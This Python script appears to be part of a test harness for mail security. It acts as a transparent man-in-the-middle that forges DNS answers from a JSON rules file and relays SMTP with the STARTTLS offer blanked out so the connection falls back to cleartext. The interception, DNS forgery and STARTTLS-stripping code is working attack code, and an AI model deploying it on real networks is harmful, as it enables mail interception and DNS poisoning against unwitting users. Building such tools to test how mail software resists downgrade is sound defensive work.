#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""The man in the middle: sits in the path and touches what passes.

The path's routing hands it all DNS (port 53), and port 25 of the addresses
it was told to attack; it talks to both ends from the other's address.  DNS
is relayed as it is except for the lies in RULES, a JSON list read anew
whenever the file changes:
    {"name": "x.example", "type": "MX", "do": "forge", "with": [[10, "y"]]}
do: an entry of lies.LIES.  Without "type", every type; a name that begins with
"." means everything below it as well.
SMTP is relayed without the line that offers STARTTLS.

usage: middle.py RULES
"""
import asyncio
import json
import os
import socket
import sys

import lies
import net
import wire

IP_TRANSPARENT, IPV6_TRANSPARENT = 19, 75
UPSTREAM = (net.NAMES, 53)


class Rules:
    def __init__(self, path):
        self.path = path
        self.seen = None
        self.list = []

    def current(self):
        try:
            stat = os.stat(self.path)
        except FileNotFoundError:
            return []
        if self.seen != (stat.st_ino, stat.st_mtime_ns):
            with open(self.path) as file:
                self.list = json.load(file)
            self.seen = (stat.st_ino, stat.st_mtime_ns)
        return self.list

    def lie(self, query):
        """What to answer instead of the truth: bytes, b"" = nothing, None."""
        name, kind, _ = wire.question(query)
        for rule in self.current():
            wanted = rule["name"]
            hit = name == wanted.lstrip(".") or (
                wanted.startswith(".") and ("." + name).endswith(wanted))
            if not hit or kind != wire.TYPES.get(rule.get("type"), kind):
                continue
            return lies.LIES[rule["do"]](query, rule)
        return None


class Datagrams(asyncio.DatagramProtocol):
    """DNS over UDP."""

    def __init__(self, rules):
        self.rules = rules

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, query, client):
        lie = self.rules.lie(query)
        if lie is None:
            asyncio.ensure_future(self.relay(query, client))
        elif lie:
            self.transport.sendto(lie, client)

    async def relay(self, query, client):
        loop = asyncio.get_running_loop()
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        with sock:
            sock.setblocking(False)
            sock.connect(UPSTREAM)
            await loop.sock_sendall(sock, query)
            try:
                answer = await asyncio.wait_for(
                    loop.sock_recv(sock, 65535), 3)
            except (OSError, asyncio.TimeoutError):
                return
        self.transport.sendto(answer, client)


async def dns_stream(rules, reader, writer):
    """DNS over TCP: one connection upstream for each from the client."""
    far_reader, far_writer = await asyncio.open_connection(*UPSTREAM)
    try:
        while True:
            size = await reader.readexactly(2)
            query = await reader.readexactly(int.from_bytes(size, "big"))
            answer = rules.lie(query)
            if answer is None:
                far_writer.write(size + query)
                size = await far_reader.readexactly(2)
                answer = await far_reader.readexactly(
                    int.from_bytes(size, "big"))
            if answer:
                writer.write(len(answer).to_bytes(2, "big") + answer)
    except (asyncio.IncompleteReadError, ConnectionError):
        pass
    finally:
        far_writer.close()
        writer.close()


def without_starttls(line):
    """An EHLO answer's line as the attacker lets it through."""
    return line.replace(b"STARTTLS", b"XXXXXXXX")


async def pump(reader, writer, change):
    """Pass lines on until the one side has said all."""
    try:
        while line := await reader.readline():
            writer.write(change(line))
            await writer.drain()
        writer.write_eof()
    except (OSError, ValueError):
        writer.close()


async def smtp_stream(reader, writer):
    """Join the client to the host it meant to reach."""
    host, port = writer.get_extra_info("sockname")[:2]
    try:
        far_reader, far_writer = await asyncio.open_connection(
            host.removeprefix("::ffff:"), port)
    except OSError:
        writer.close()
        return
    await asyncio.gather(
        pump(reader, far_writer, bytes),
        pump(far_reader, writer, without_starttls))
    far_writer.close()
    writer.close()


def transparent(kind, port, family=socket.AF_INET, address=""):
    """A socket that may answer from addresses which are not ours."""
    sock = socket.socket(family, kind)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    if family == socket.AF_INET6:
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        sock.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    sock.bind((address, port))
    sock.setblocking(False)
    return sock


async def main(path):
    rules = Rules(path)
    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(
        lambda: Datagrams(rules),
        sock=transparent(socket.SOCK_DGRAM, 53, address=net.NAMES))
    await asyncio.start_server(
        lambda reader, writer: dns_stream(rules, reader, writer),
        sock=transparent(socket.SOCK_STREAM, 53, address=net.NAMES))
    await asyncio.start_server(
        smtp_stream,
        sock=transparent(socket.SOCK_STREAM, 25, socket.AF_INET6))
    print("ready", flush=True)
    await asyncio.Event().wait()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
